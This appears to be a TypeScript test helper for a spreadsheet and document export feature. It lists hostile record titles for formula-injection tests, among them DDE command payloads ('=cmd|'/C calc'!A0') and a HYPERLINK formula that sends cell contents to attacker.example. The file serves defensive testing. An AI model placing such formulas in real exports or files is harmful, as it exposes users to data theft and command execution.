import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { SaxesParser } from "saxes";
import { toDay } from "../../src/model/day.ts";
import type { ExportTable } from "../../src/model/export-table.ts";
import { temporaryFolder } from "./copy.ts";

/** Titles as they would stand in records that somebody made to do harm, or wrote without a thought of spreadsheets. */
export const HOSTILE_TITLES: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
  "=cmd|'/C calc'!A0",
  "+44 and more",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "  =1+1",
  "\n=1+1",
  "＝1+1",
  "{=1+1}",
  "'=1+1",
  "plain, with a comma",
  'with "quotes" and, commas',
  "two\nlines",
  "semi;colon",
  "_x000D_ and _x003D_1+1",
  "<b>&amp;]]></b>",
  "::error::owned",
  "Übersicht 日本語 👍",
  "https://attacker.example/",
  "0123",
  "1e5",
  "TRUE",
  " blanks around ",
  "é decomposed: é",
];

/** A table with a row for each of some titles. */
export function tableWith(titles: readonly string[]): ExportTable {
  return {
    kind: "recommendations",
    title: "Recommendations",
    asAt: toDay("2025-10-20"),
    year: undefined,
    to: undefined,
    marking: "OFFICIAL",
    notice: undefined,
    says: [],
    columns: [
      { key: "id", heading: "Id", is: "text", width: 12, inWord: true },
      { key: "title", heading: "Title", is: "text", width: 40, inWord: true },
      { key: "due", heading: "Due", is: "day", width: 13 },
      { key: "late", heading: "Days late", is: "number", width: 10 },
      { key: "owners", heading: "Owners", is: "text", width: 20 },
    ],
    rows: titles.map((title, index) => [
      `r${index + 1}`,
      title,
      "2025-11-30",
      index - 1,
      { value: ["icb", "council"], words: "ICB; Council" },
    ]),
    withheld: 0,
  };
}

/** The parts of a workbook or another file of its kind; throws where one is not well formed. */
export function partsOf(bytes: Uint8Array): ReadonlyMap<string, string> {
  return new Map(
    Object.entries(unzipSync(bytes)).map(([name, content]) => {
      const xml = strFromU8(content);
      if (/\.(?:xml|rels)$/.test(name)) new SaxesParser({ xmlns: true }).write(xml).close();
      return [name, xml];
    }),
  );
}

/** What LibreOffice makes of a file, as text in another format. */
export function convertedByLibreOffice(name: string, bytes: Uint8Array, format: string): string {
  const folder = temporaryFolder();
  writeFileSync(join(folder, name), bytes);
  // a profile of its own, so that two runs do not wait for each other
  mkdirSync(join(folder, "profile"));
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  execFileSync(
    "soffice",
    [profile, "--headless", "--convert-to", format, "--outdir", folder, join(folder, name)],
    {
      stdio: "ignore",
      env: { ...process.env, HOME: folder },
    },
  );
  return readFileSync(join(folder, name.replace(/\.\w+$/, `.${format.split(":")[0]}`)), "utf8");
}
